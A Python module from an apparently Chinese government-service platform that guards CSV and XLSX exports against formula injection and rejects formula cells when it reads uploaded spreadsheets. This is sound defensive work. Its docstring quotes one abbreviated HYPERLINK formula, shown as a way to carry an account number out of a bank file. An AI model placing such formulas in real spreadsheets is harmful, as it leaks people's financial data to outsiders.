"""The one export layer for every CSV and XLSX the platform writes, and the
one check of spreadsheet cells it reads.

Writing: a text cell that begins with ``= + - @``, a tab or a carriage return
would be run by Excel or WPS as a formula (OWASP "CSV injection": a name
such as ``=HYPERLINK("http://…?x="&D2,"查看")`` can carry an account number
out of a bank file). Such text gets a leading apostrophe and stays text;
numbers stay numbers.

Reading: a formula cell is reported as a formula ("该单元格是公式"), never
read as an empty field or as a value someone's spreadsheet computed.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
FORMULA_CELL = "该单元格是公式，请填写数值或文字，不要使用公式"


_PLAIN_NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?$")


def neutralise_formula(value: Any) -> Any:
    """A text a spreadsheet would evaluate becomes plain text; a plain number
    written as text (an amount "-12.00" in a bank file) and anything that is
    not text are unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


def neutralise_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise_formula(v) for v in row]


class SafeCsvWriter:
    """``csv.writer`` whose rows are neutralised first."""

    def __init__(self, out: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(neutralise_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def sheet_append(sheet: Any, row: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet (write-only or not) with text kept as text."""
    sheet.append(neutralise_row(row))


def is_formula_cell(cell: Any) -> bool:
    """An openpyxl cell (read with ``data_only=False``) that holds a formula."""
    return getattr(cell, "data_type", None) == "f"


def xlsx_values(stream: Any) -> Iterator[list[Any]]:
    """The first sheet's rows as lists of values, read without letting a
    formula through: a formula cell stops the import with its position
    (``ImportFileError``), it is never read as empty or as a cached result."""
    from openpyxl import load_workbook
    from openpyxl.utils import get_column_letter

    from minzheng.core.file_import import ImportFileError

    try:
        book = load_workbook(stream, read_only=True, data_only=False)
    except Exception as err:  # openpyxl raises many kinds for a broken file
        raise ImportFileError("无法读取该 Excel 文件，请确认是 .xlsx 格式") from err
    for number, row in enumerate(book.worksheets[0].iter_rows(), start=1):
        values = []
        for index, cell in enumerate(row, start=1):
            if is_formula_cell(cell):
                raise ImportFileError(f"第{number}行第{get_column_letter(index)}列：{FORMULA_CELL}")
            values.append(getattr(cell, "value", None))
        yield values


def template_csv_bytes(rows: Iterable[Iterable[Any]]) -> bytes:
    """A downloadable CSV template (headers, then example rows): UTF-8 with a
    BOM so Excel opens the Chinese headers; cells neutralised (no formulas)."""
    import io

    buffer = io.StringIO()
    writer = SafeCsvWriter(buffer)
    for row in rows:
        writer.writerow(row)
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def template_xlsx_bytes(title: str, rows: Iterable[Iterable[Any]],
                        notes: Iterable[Iterable[Any]] | None = None) -> bytes:
    """A downloadable XLSX template: ``rows`` (headers, then examples) on a
    sheet named ``title``, and ``notes`` (if any) on a 填写说明 sheet."""
    import io

    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = title[:31]
    for row in rows:
        sheet_append(sheet, row)
    if notes is not None:
        note_sheet = book.create_sheet("填写说明")
        for line in notes:
            sheet_append(note_sheet, line)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
